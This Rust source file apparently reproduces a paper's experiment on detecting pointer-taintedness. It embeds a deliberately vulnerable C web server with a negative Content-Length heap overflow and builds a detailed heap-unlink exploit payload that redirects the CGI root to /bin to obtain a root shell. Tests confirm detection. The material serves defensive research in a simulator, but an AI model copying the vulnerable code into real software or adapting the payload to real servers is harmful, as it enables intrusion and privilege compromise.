//! A NULL-HTTPD-style web server with the *negative Content-Length heap
//! overflow* (BID-5774), reproducing the paper's §5.1.2 experiment.
//!
//! The server computes its POST buffer size as `content_length + 1024`.
//! A negative `Content-Length` makes the allocation far smaller than the
//! body the client then sends, so the `recv` overruns the chunk into the
//! free chunk that physically follows it, forging that chunk's `fd`/`bk`
//! links. When the server frees the buffer, the allocator's coalescing
//! `unlink` performs `fd->bk = bk` — an arbitrary 4-byte write.
//!
//! The paper's **non-control-data** payload uses that write to repoint the
//! server's CGI-BIN configuration at the string `"/bin"`, so a subsequent
//! `GET /cgi-bin/sh` request "executes" `/bin/sh` with the daemon's root
//! privileges. No code pointer is ever touched, so control-flow protections
//! miss it; pointer-taintedness detection raises an alert at the unlink's
//! first dereference of the forged (tainted) link.

use ptaint_asm::Image;
use ptaint_isa::PAGE_SIZE;
use ptaint_os::{NetSession, WorldConfig};

/// The web server. The CGI root lives in a config struct (a pointer to a
/// path string), as in NULL HTTPD's in-memory configuration.
pub const SOURCE: &str = r#"
struct server_config {
    char *cgi_root;
    int max_clients;
};

struct server_config conf;

void reply(int s, char *msg) {
    send(s, msg, strlen(msg));
}

char *find_header(char *req, char *name) {
    char *p = strstr(req, name);
    if (!p) return 0;
    return p + strlen(name);
}

/* Serve one GET request: CGI paths are resolved against conf.cgi_root and
 * "executed" (simulated by reporting the resolved binary path). */
void serve_get(int s, char *url) {
    char cmd[128];
    if (strncmp(url, "/cgi-bin/", 9) == 0) {
        snprintf(cmd, 120, "%s%s", conf.cgi_root, url + 8);
        reply(s, "200 OK EXEC ");
        reply(s, cmd);
        reply(s, "\r\n");
        return;
    }
    reply(s, "200 OK static\r\n");
}

void handle_post(int s, char *req) {
    char *cl;
    char *body;
    int content_length;
    int n;
    cl = find_header(req, "Content-Length: ");
    if (!cl) {
        reply(s, "411 length required\r\n");
        return;
    }
    content_length = atoi(cl);
    /* BID-5774: the negative length passes this check and wrecks the
     * allocation size below. */
    if (content_length > 4096) {
        reply(s, "413 too large\r\n");
        return;
    }
    body = malloc(1024 + content_length);
    n = recv(s, body, 8192, 0);         /* overruns the undersized chunk */
    if (n > 0) body[n] = 0;
    reply(s, "200 OK posted\r\n");
    free(body);                          /* coalescing unlink -> detection */
}

int main() {
    char req[512];
    int s;
    int c;
    int n;
    char *scratch;
    conf.cgi_root = "/usr/local/httpd/cgi-bin";
    conf.max_clients = 8;
    /* Connection bookkeeping leaves a freed chunk on the heap — the free
     * neighbour the overflow corrupts. */
    scratch = malloc(400);
    free(scratch);
    s = socket();
    bind(s, 80);
    listen(s);
    /* multithreaded in the original; sequential accept loop here */
    while (1) {
        c = accept(s);
        if (c < 0) break;
        while (1) {
            n = recv(c, req, 511, 0);
            if (n <= 0) break;
            req[n] = 0;
            if (strncmp(req, "POST ", 5) == 0) {
                handle_post(c, req);
            } else if (strncmp(req, "GET ", 4) == 0) {
                char *sp = strchr(req + 4, ' ');
                if (sp) *sp = 0;
                serve_get(c, req + 4);
            } else {
                reply(c, "400 bad request\r\n");
            }
        }
        close(c);
    }
    return 0;
}
"#;

/// Heap geometry shared by the payload builder and the server: the first
/// chunk's payload starts 8 bytes past the initial program break.
fn heap_base(image: &Image) -> u32 {
    image.data_end().div_ceil(PAGE_SIZE) * PAGE_SIZE
}

/// Builds the malicious POST body.
///
/// Layout (the POST buffer is `malloc(1024 + (-800)) = malloc(224)`,
/// payload 224 bytes; the split free remainder's header follows):
///
/// ```text
/// [0..8)    scratch (free() later reuses these words for its own fd/bk)
/// [8..13)   "/bin\0"                   — the string the config will point at
/// [13..224) filler
/// [224..228) prev_size (ignored)
/// [228..232) forged size: even, >= 24  — keeps the chunk "free"
/// [232..236) fd = &conf - 12           — so fd->bk aliases conf.cgi_root
/// [236..240) bk = &body[8]             — the "/bin" string above
/// ```
#[must_use]
pub fn post_body(image: &Image) -> Vec<u8> {
    let conf = image.symbol("conf").expect("null_httpd defines conf");
    let body_addr = heap_base(image) + 8; // first chunk payload (reused)
    let mut body = Vec::with_capacity(240);
    body.extend_from_slice(b"AAAAAAAA");
    body.extend_from_slice(b"/bin\0");
    body.resize(224, b'A');
    body.extend_from_slice(&40u32.to_le_bytes()); // prev_size
    body.extend_from_slice(&40u32.to_le_bytes()); // forged size
    body.extend_from_slice(&(conf.wrapping_sub(12)).to_le_bytes()); // fd
    body.extend_from_slice(&(body_addr + 8).to_le_bytes()); // bk
    body
}

/// The attack session: the malicious POST followed by the CGI request that
/// cashes in the corrupted configuration.
#[must_use]
pub fn attack_world(image: &Image) -> WorldConfig {
    WorldConfig::new().session(NetSession::new(vec![
        b"POST /form HTTP/1.0\r\nContent-Length: -800\r\n\r\n".to_vec(),
        post_body(image),
        b"GET /cgi-bin/sh HTTP/1.0\r\n\r\n".to_vec(),
    ]))
}

/// A benign session: a normal POST and a CGI request.
#[must_use]
pub fn benign_world() -> WorldConfig {
    WorldConfig::new().session(NetSession::new(vec![
        b"POST /form HTTP/1.0\r\nContent-Length: 11\r\n\r\n".to_vec(),
        b"name=nobody".to_vec(),
        b"GET /cgi-bin/status HTTP/1.0\r\n\r\n".to_vec(),
        b"GET /index.html HTTP/1.0\r\n\r\n".to_vec(),
    ]))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::apps::run_app;
    use crate::build;
    use ptaint_cpu::{AlertKind, DetectionPolicy};
    use ptaint_os::ExitReason;

    fn image() -> Image {
        build(SOURCE).unwrap()
    }

    #[test]
    fn attack_detected_inside_free() {
        let image = image();
        let out = run_app(
            &image,
            attack_world(&image),
            DetectionPolicy::PointerTaintedness,
        );
        let alert = out.reason.alert().expect("heap attack must be detected");
        assert_eq!(alert.kind, AlertKind::DataPointer);
        // The faulting access is the unlink's `fd->bk = bk` store: its
        // address operand is the tainted `fd + 12 = (&conf - 12) + 12`, so
        // the alert's pointer is exactly the config word the attacker was
        // about to overwrite.
        let conf = image.symbol("conf").unwrap();
        assert_eq!(alert.pointer, conf);
        let unlink = image.symbol("__unlink").unwrap();
        assert!(
            alert.pc >= unlink && alert.pc < unlink + 0x100,
            "alert at {:#x}, unlink at {unlink:#x}",
            alert.pc
        );
    }

    #[test]
    fn attack_compromises_cgi_root_without_protection() {
        let image = image();
        let out = run_app(&image, attack_world(&image), DetectionPolicy::Off);
        assert_eq!(out.reason, ExitReason::Exited(0), "{:?}", out.reason);
        let transcript = String::from_utf8_lossy(&out.transcripts[0]).into_owned();
        // The CGI request resolved against the corrupted config: root shell.
        assert!(transcript.contains("EXEC /bin/sh"), "{transcript}");
    }

    #[test]
    fn benign_session_is_clean() {
        let image = image();
        let out = run_app(&image, benign_world(), DetectionPolicy::PointerTaintedness);
        assert_eq!(out.reason, ExitReason::Exited(0), "{:?}", out.reason);
        let transcript = String::from_utf8_lossy(&out.transcripts[0]).into_owned();
        assert!(transcript.contains("200 OK posted"), "{transcript}");
        assert!(
            transcript.contains("EXEC /usr/local/httpd/cgi-bin/status"),
            "{transcript}"
        );
        assert!(transcript.contains("200 OK static"), "{transcript}");
    }
}

#[cfg(test)]
mod multi_client_tests {
    use super::*;
    use crate::apps::run_app;
    use crate::build;
    use ptaint_cpu::DetectionPolicy;
    use ptaint_os::ExitReason;

    #[test]
    fn serves_multiple_clients_sequentially() {
        let image = build(SOURCE).unwrap();
        let world = WorldConfig::new()
            .session(NetSession::new(vec![
                b"GET /index.html HTTP/1.0\r\n\r\n".to_vec()
            ]))
            .session(NetSession::new(vec![
                b"GET /cgi-bin/status HTTP/1.0\r\n\r\n".to_vec(),
            ]));
        let out = run_app(&image, world, DetectionPolicy::PointerTaintedness);
        assert_eq!(out.reason, ExitReason::Exited(0), "{:?}", out.reason);
        let t0 = String::from_utf8_lossy(&out.transcripts[0]).into_owned();
        let t1 = String::from_utf8_lossy(&out.transcripts[1]).into_owned();
        assert!(t0.contains("200 OK static"), "{t0}");
        assert!(t1.contains("EXEC /usr/local/httpd/cgi-bin/status"), "{t1}");
    }

    #[test]
    fn attack_after_benign_client_still_detected() {
        // A benign client reshuffles the heap first; the attacker's groomed
        // layout assumptions break, but the forged (tainted) links still
        // trip the detector inside free().
        let image = build(SOURCE).unwrap();
        let mut world = WorldConfig::new().session(NetSession::new(vec![
            b"POST /form HTTP/1.0\r\nContent-Length: 11\r\n\r\n".to_vec(),
            b"name=nobody".to_vec(),
        ]));
        for session in attack_world(&image).sessions {
            world = world.session(session);
        }
        let out = run_app(&image, world, DetectionPolicy::PointerTaintedness);
        assert!(out.reason.is_detected(), "{:?}", out.reason);
    }
}
